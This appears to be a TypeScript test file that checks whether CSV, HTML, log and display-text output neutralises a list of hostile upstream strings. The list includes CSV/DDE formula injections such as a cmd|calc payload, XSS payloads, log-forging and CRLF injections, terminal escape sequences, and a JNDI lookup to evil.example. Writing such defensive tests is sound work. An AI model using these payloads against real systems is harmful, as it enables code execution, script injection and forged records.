import { csvLine } from '../../src/api/presenters/csv.js';
import { facts, html, page, table } from '../../src/api/presenters/html.js';
import { shownText } from '../../src/domain/shown-text.js';
import { createLog } from '../../src/platform/log/log.js';

/** Names, reasons and messages that an upstream, or somebody who may write there, could have us show. */
const HOSTILE: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("http://evil.example","click")',
  '"quoted",and,cut',
  'a\r\nb,forged,line',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style><svg onload=alert(1)>',
  'javascript:alert(1)',
  '&lt;b&gt;',
  '\u001b[2J\u001b]0;owned\u0007',
  'a\u202eb\u2066c',
  'line\u2028separator',
  '{"level":60,"msg":"forged"}',
  'x\n{"level":60,"msg":"forged"}',
  'nul\u0000byte',
  '%0d%0aset-cookie: a=b',
  '${jndi:ldap://evil.example/a}',
  '\ud800',
];

describe.each(HOSTILE)('the text %j', (text) => {
  it('is one cell of a CSV that no spreadsheet runs', () => {
    const line = csvLine(['before', text, 'after']);
    const [cell, ...more] = cellsOf(line);
    expect([cell, more[1], more.length]).toEqual(['before', 'after', 2]);
    expect([text, `'${text}`]).toContain(more[0]);
    expect(more[0]).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  });

  it('is text of a page, and nothing else of it', () => {
    const shown = page(
      text,
      facts({ [text]: text }),
      table(text, [text], [[text]]),
      html`<p title="${text}">${text}</p>`,
    );
    const plain = page(
      'x',
      facts({ x: 'x' }),
      table('x', ['x'], [['x']]),
      html`<p title="${'x'}">${'x'}</p>`,
    );
    expect(tagsOf(shown)).toEqual(tagsOf(plain));
  });

  it('is one line of a log', () => {
    const lines: string[] = [];
    const log = createLog('info', 'test', { write: (line: string) => void lines.push(line) });
    log.info({ upstream: { message: text } }, `it says ${text}`);
    expect(lines).toHaveLength(1);
    expect(lines[0]?.trimEnd()).not.toMatch(/[\n\r\u0000-\u001f]/);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ level: 30 });
  });

  it('moves no cursor, hides nothing and turns nothing around in what is told of an upstream', () => {
    expect(shownText(text)).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });
});

/** RFC 4180, as a reader understands it. */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n$)/gy;
  for (const [, quoted, plain = ''] of line.matchAll(pattern))
    cells.push(quoted?.replaceAll('""', '"') ?? plain);
  return cells;
}

/** Names of the elements and of their attributes, in order. */
function tagsOf(document: string): string[] {
  return [...document.matchAll(/<(\/?[a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = '', attributes = '']) => `${name} ${attributes.replace(/="[^"]*"/g, '')}`,
  );
}
